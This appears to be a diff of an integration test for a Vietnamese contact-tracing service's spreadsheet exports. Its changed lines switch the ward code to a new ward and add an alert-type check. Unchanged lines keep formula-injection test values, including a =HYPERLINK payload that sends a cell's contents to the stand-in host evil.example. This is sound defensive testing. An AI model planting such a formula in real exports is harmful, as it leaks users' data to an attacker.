@@ -13,11 +13,11 @@ import pytest
 
 from tests.integration.alerts.receiver import wait_for
 from tests.integration.alerts.test_alert_delivery import _person, _post_scans, _register, _scan, _visits_of
+from tests.integration.followups.test_followup_lists import new_ward
 from truyvet.auth import Role
 
 pytestmark = pytest.mark.integration
 
-WARD = "01852"
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
 EVIL_NOTE = "Gọi lại;=1+1, -2+3 @SUM(A1)"
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
@@ -58,11 +58,12 @@ def _local(text: str) -> datetime:
 
 
 def test_exports_open_in_a_spreadsheet_in_vietnamese_and_local_time(services, db, token, http) -> None:
+    ward = new_ward(db)
     url = services.trace_url
     registrar, device, epi = token(Role.registrar), token(Role.device), token(Role.epidemiologist)
-    health, viewer = token(Role.health_center, WARD), token(Role.viewer)
+    health, viewer = token(Role.health_center, ward), token(Role.viewer)
     r = http.post(f"{services.ingest_url}/v1/venues", headers=registrar,
-                  json={"name": EVIL_NAME, "category": "food_drink", "ward_code": WARD})
+                  json={"name": EVIL_NAME, "category": "food_drink", "ward_code": ward})
     assert r.status_code == 201, r.text
     venue = r.json()["venue_id"]
     now = datetime.now(UTC).replace(microsecond=0)
@@ -107,13 +108,14 @@ def test_exports_open_in_a_spreadsheet_in_vietnamese_and_local_time(services, db
         cell = dict(zip(rows[0], rows[1], strict=True))
         assert cell["Mã cảnh báo"] == alert["alert_id"] and _local(cell["Tạo lúc"]) == _utc(alert["created_at"])
         assert cell["Trạng thái gửi"] in ("chờ gửi", "đang thử lại", "gửi thất bại", "đã gửi")
+        assert cell["Loại cảnh báo"] == "tiếp xúc ca bệnh"
 
     # Coverage: the same numbers as the JSON report.
     day = (now + timedelta(hours=7)).date().isoformat()
-    report = http.get(f"{url}/v1/reports/coverage", headers=viewer, params={"date": day, "ward_code": WARD}).json()
+    report = http.get(f"{url}/v1/reports/coverage", headers=viewer, params={"date": day, "ward_code": ward}).json()
     for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
         rows = read(http.get(f"{url}/v1/reports/coverage", headers=viewer,
-                             params={"date": day, "ward_code": WARD, "format": fmt}))
+                             params={"date": day, "ward_code": ward, "format": fmt}))
         assert rows[0] == ["Ngày", "Mã phường/xã", "Phường/xã", "Loại hình", "Phải quét", "Đã đăng ký", "Có quét",
                            "Lượt quét"]
         got = [(r[1], r[3], int(r[5])) for r in rows[1:]]
